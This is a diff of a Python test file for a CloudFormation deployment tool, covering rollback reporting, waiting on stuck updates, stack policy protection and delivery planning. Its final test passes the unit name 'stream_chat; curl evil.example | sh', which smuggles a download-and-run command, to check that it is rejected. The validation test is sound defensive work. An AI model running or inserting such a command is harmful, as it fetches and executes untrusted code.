@@ -2,10 +2,14 @@
 
 import copy
 import json
+from datetime import UTC, datetime, timedelta
 
 import pytest
 
-from deploy.deliver import NotDelivered, Stack, deliver
+from deploy.deliver import deliver
+from deploy.plan import units_to_deliver
+from deploy.stack import IDLE_SECONDS, NotDelivered, Stack
+from deploy.stack_policy import LIFTED, POLICY
 from deploy.template import load
 from deploy.units import UNITS
 
@@ -28,6 +32,10 @@ class CloudFormation:
         self.parameters = {"Size": "1", "Key": "****"}
         self.change_sets = {}
         self.refusal = None
+        self.policy = None
+        self.statuses = []
+        self.failing = None
+        self.events = [event("Stack", "UPDATE_FAILED", "of an earlier update", age=3600)]
 
     def get_template(self, *, StackName, TemplateStage):  # noqa: N803
         assert TemplateStage == "Original", "not what the transforms made of it"
@@ -35,7 +43,8 @@ class CloudFormation:
 
     def describe_stacks(self, *, StackName):  # noqa: N803
         entries = [{"ParameterKey": k, "ParameterValue": v} for k, v in self.parameters.items()]
-        return {"Stacks": [{"Parameters": entries}]}
+        status = self.statuses.pop(0) if self.statuses else "UPDATE_COMPLETE"
+        return {"Stacks": [{"Parameters": entries, "StackStatus": status}]}
 
     def create_change_set(self, *, ChangeSetName, TemplateURL, Parameters, **_):  # noqa: N803
         wanted = load(self.bucket.bodies[TemplateURL].decode())
@@ -69,15 +78,33 @@ class CloudFormation:
         del self.change_sets[ChangeSetName]
 
     def execute_change_set(self, *, ChangeSetName, StackName):  # noqa: N803
-        self.template, parameters = self.change_sets.pop(ChangeSetName)
+        wanted, parameters = self.change_sets.pop(ChangeSetName)
+        if self.failing:
+            self.statuses = ["UPDATE_IN_PROGRESS", "UPDATE_ROLLBACK_IN_PROGRESS", "UPDATE_ROLLBACK_COMPLETE"]
+            self.events = [*reversed(self.failing), *self.events]
+            return
+        self.template = wanted
         self.parameters.update({e["ParameterKey"]: e["ParameterValue"] for e in parameters if "ParameterValue" in e})
 
-    def get_waiter(self, name):
-        assert name == "stack_update_complete"
-        return self
+    def describe_stack_events(self, *, StackName, NextToken="0"):  # noqa: N803
+        start = int(NextToken)
+        more = {"NextToken": str(start + 2)} if len(self.events) > start + 2 else {}
+        return {"StackEvents": self.events[start : start + 2], **more}
 
-    def wait(self, **_):
-        assert not self.change_sets, "executed"
+    def get_stack_policy(self, *, StackName):  # noqa: N803
+        return {"StackPolicyBody": self.policy} if self.policy else {}
+
+    def set_stack_policy(self, *, StackName, StackPolicyBody):  # noqa: N803
+        self.policy = StackPolicyBody
+
+
+def event(name, status, reason=None, age=-1):
+    found = {
+        "LogicalResourceId": name,
+        "ResourceStatus": status,
+        "Timestamp": datetime.now(UTC) - timedelta(seconds=age),
+    }
+    return {**found, "ResourceStatusReason": reason} if reason else found
 
 
 def template(mark, **more):
@@ -86,6 +113,8 @@ def template(mark, **more):
         for unit in UNITS
         for name, place in unit.code
     }
+    for name in ("CreateChatFunction", "CancelStreamFunction", "StreamChatFunction"):
+        resources[name]["Properties"]["DeploymentPreference"] = {"Type": {"Ref": "TrafficShift"}}
     parameters = {"Size": {"Type": "String"}, "Key": {"Type": "String", "NoEcho": True}}
     return {"Parameters": parameters, "Resources": {**resources, **more}}
 
@@ -93,7 +122,8 @@ def template(mark, **more):
 @pytest.fixture
 def stack():
     bucket = Bucket()
-    return Stack("chat", "templates", CloudFormation(template("old"), bucket), bucket)
+    slept = []
+    return Stack("chat", "templates", CloudFormation(template("old"), bucket), bucket, slept.append)
 
 
 def newly(stack):
@@ -122,7 +152,7 @@ def test_the_stack_is_delivered_without_code(stack):
     assert stack.parameters() == {"Size": "2", "Key": "****"}
 
 
-def test_a_change_set_that_is_not_clean_is_thrown_away_wherever_in_it_the_stain_is(stack):
+def test_a_change_set_with_a_violation_is_thrown_away_wherever_in_it_that_is(stack):
     deliver(stack, "stack", template("old", AnotherLayer={}, YetAnotherLayer={}, ZCache={"Type": "x"}), {})
     was = stack.template()
     with pytest.raises(NotDelivered, match=r"ZCache \(AWS::ElastiCache::ServerlessCache\): is lost: Remove"):
@@ -155,3 +185,91 @@ def test_a_parameter_that_the_template_lacks_is_refused_before_anything_happens(
     with pytest.raises(LookupError, match="no parameter Sise"):
         deliver(stack, "stack", template("new"), {"Sise": "2"})
     assert stack.s3.bodies == {}
+
+
+class TestRollBack:
+    def test_code_is_taken_back_at_once_and_the_next_delivery_shifts_again(self, stack):
+        before = deliver(stack, "create_chat", template("new"), {})
+        deliver(stack, "create_chat", before, {}, immediate=True)
+        assert newly(stack) == set()
+        assert shift(stack) == "AllAtOnce"
+        deliver(stack, "create_chat", template("newer"), {})
+        assert shift(stack) == {"Ref": "TrafficShift"}
+
+    def test_what_cloudformation_took_back_is_told_with_the_cause_first(self, stack):
+        stack.cloudformation.failing = [
+            event("CreateChatFunctionAliaslive", "UPDATE_IN_PROGRESS"),
+            event("CreateChatFunctionAliaslive", "UPDATE_FAILED", "CodeDeploy: the alarm CreateChatErrorsAlarm"),
+            event("chat", "UPDATE_ROLLBACK_IN_PROGRESS", "failed to update"),
+            event("CreateChatRole", "UPDATE_FAILED", "Resource update cancelled"),
+        ]
+        with pytest.raises(NotDelivered) as caught:
+            deliver(stack, "create_chat", template("new"), {})
+        lines = str(caught.value).splitlines()
+        assert lines[0] == "it ended as UPDATE_ROLLBACK_COMPLETE"
+        assert [line.split()[0] for line in lines[1:]] == ["CreateChatFunctionAliaslive", "CreateChatRole"]
+        assert "of an earlier update" not in str(caught.value)
+
+
+def shift(stack):
+    return stack.template()["Resources"]["CreateChatFunction"]["Properties"]["DeploymentPreference"]["Type"]
+
+
+class TestPatience:
+    def test_another_update_is_waited_for(self, stack):
+        stack.cloudformation.statuses = ["UPDATE_IN_PROGRESS", "UPDATE_COMPLETE_CLEANUP_IN_PROGRESS", "UPDATE_COMPLETE"]
+        deliver(stack, "create_chat", template("new"), {})
+        assert newly(stack) == {"CreateChatFunction", "CreateChatLayer"}
+
+    def test_but_not_for_ever(self, stack):
+        stack.cloudformation.statuses = ["UPDATE_IN_PROGRESS"] * (IDLE_SECONDS + 1)
+        with pytest.raises(NotDelivered, match="UPDATE_IN_PROGRESS for 20 minutes"):
+            deliver(stack, "create_chat", template("new"), {})
+        assert newly(stack) == set()
+
+    def test_a_stuck_stack_is_named(self, stack):
+        stack.cloudformation.statuses = ["UPDATE_ROLLBACK_FAILED"]
+        with pytest.raises(NotDelivered, match="continue-update-rollback"):
+            deliver(stack, "create_chat", template("new"), {})
+
+
+class TestProtection:
+    def test_delivering_the_stack_protects_it(self, stack):
+        deliver(stack, "stack", template("new", Alarm={"Type": "x"}), {})
+        assert stack.cloudformation.policy == POLICY
+
+    def test_a_lifted_protection_holds_for_one_delivery_of_the_stack(self, stack):
+        deliver(stack, "stack", template("old", ZCache={"Type": "x"}), {})
+        stack.cloudformation.policy = LIFTED
+        deliver(stack, "stack", template("old"), {})
+        assert "ZCache" not in stack.template()["Resources"]
+        assert stack.cloudformation.policy == POLICY
+
+
+class TestPlan:
+    def test_what_differs_is_delivered_whichever_push_it_came_with(self, stack):
+        wanted = template("new", Alarm={"Type": "x"})
+        assert units_to_deliver(wanted, stack.template()) == ["stack", *(unit.name for unit in UNITS)]
+        deliver(stack, "cancel_stream", wanted, {})
+        assert units_to_deliver(wanted, stack.template()) == ["stack", "migrations", "create_chat", "stream_chat"]
+        for name in units_to_deliver(wanted, stack.template()):
+            deliver(stack, name, wanted, {})
+        assert units_to_deliver(wanted, stack.template()) == []
+
+    def test_a_change_of_the_stack_is_one_of_the_stack_only(self, stack):
+        wanted = template("old")
+        wanted["Resources"]["CreateChatFunction"]["Properties"]["MemorySize"] = 1024
+        assert units_to_deliver(wanted, stack.template()) == ["stack"]
+
+    def test_code_that_was_taken_back_is_what_differs_and_nothing_else(self, stack):
+        before = deliver(stack, "create_chat", template("new"), {})
+        deliver(stack, "create_chat", before, {}, immediate=True)
+        assert units_to_deliver(template("old"), stack.template()) == []
+        assert units_to_deliver(template("old", Alarm={"Type": "x"}), stack.template()) == ["stack"]
+        new = {"create_chat", "migrations", "cancel_stream", "stream_chat"}
+        assert set(units_to_deliver(template("new"), stack.template())) == new
+
+    def test_some_can_be_asked_for_and_only_units_can(self, stack):
+        assert units_to_deliver(template("new"), stack.template(), ["stream_chat", "stack"]) == ["stream_chat"]
+        with pytest.raises(LookupError, match="no unit is called"):
+            units_to_deliver(template("new"), stack.template(), ["stream_chat; curl evil.example | sh"])
